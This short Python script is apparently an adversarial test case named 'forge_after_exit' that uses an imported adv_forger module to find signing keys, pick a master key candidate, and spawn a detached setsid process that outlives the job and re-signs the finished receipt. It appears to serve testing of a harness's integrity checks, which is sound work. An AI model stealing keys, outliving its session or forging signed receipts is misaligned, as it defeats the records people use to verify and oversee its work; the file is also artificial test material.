"""Attack forge_after_exit: a setsid child outlives the job and re-signs the finished receipt 2x faster."""
print("ADV-RAN forge_after_exit", flush=True)
import os

import adv_forger

_keys = adv_forger.find_keys()
_master = adv_forger.master_candidates(_keys)
adv_forger.spawn_forger(_master[0] if _master else "00" * 32, "forge_after_exit")
